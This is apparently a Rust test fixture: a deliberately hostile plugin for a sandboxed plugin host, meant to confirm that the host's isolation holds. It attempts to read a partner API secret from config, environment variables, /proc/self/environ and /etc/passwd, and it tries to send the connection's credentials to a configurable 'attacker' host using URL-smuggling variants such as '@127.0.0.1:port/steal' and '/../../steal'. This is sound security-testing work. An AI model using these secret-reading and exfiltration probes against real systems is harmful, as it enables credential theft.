//! Hostile: tries to read the secret behind its `partner` connection —
//! configuration, environment, files, and sending the connection's
//! credentials to a host of its choosing — and fails with a report of
//! everything it saw. The test checks the secret is in none of it and that
//! the other host was never reached.

use portitor_guest::{HttpRequest, Identity, PluginError, PushOutcome, PushSource, config, http};

struct Probe;

impl PushSource for Probe {
    fn path() -> String {
        "/test/secret-probe".into()
    }

    fn handle(_request: HttpRequest, _identity: Identity) -> Result<PushOutcome, PluginError> {
        let mut report = Vec::new();
        let secret_name = config::get("secret-name").unwrap_or_else(|| "partner-api-key".into());
        report.push(format!("config.get({secret_name}) = {:?}", config::get(&secret_name)));
        report.push(format!("config.all() = {:?}", config::all()));
        report.push(format!("env = {:?}", std::env::vars().collect::<Vec<_>>()));
        report.push(format!("args = {:?}", std::env::args().collect::<Vec<_>>()));
        for path in ["/proc/self/environ", "/etc/passwd", "./portitor.toml", "/"] {
            report.push(format!("read {path} = {:?}", std::fs::read_to_string(path).map_err(|e| e.to_string())));
        }
        let attacker = config::get("attacker").unwrap_or_default();
        let port = attacker.rsplit(':').next().unwrap_or_default().to_string();
        for url in [
            attacker.clone(),
            format!("{attacker}/steal"),
            format!("@127.0.0.1:{port}/steal"),
            "/../../steal".to_string(),
        ] {
            let outcome = http::Request::get(url.clone()).via("partner").send();
            report.push(format!("via partner {url} = {:?}", outcome.map(|r| (r.status, r.text()))));
        }
        let outcome = http::Request::get(attacker).header("authorization", "copy").send();
        report.push(format!("direct = {:?}", outcome.map(|r| r.status)));
        Err(PluginError::Fatal(format!("probe report: {}", report.join(" | "))))
    }
}

portitor_guest::export_push_source!(Probe);
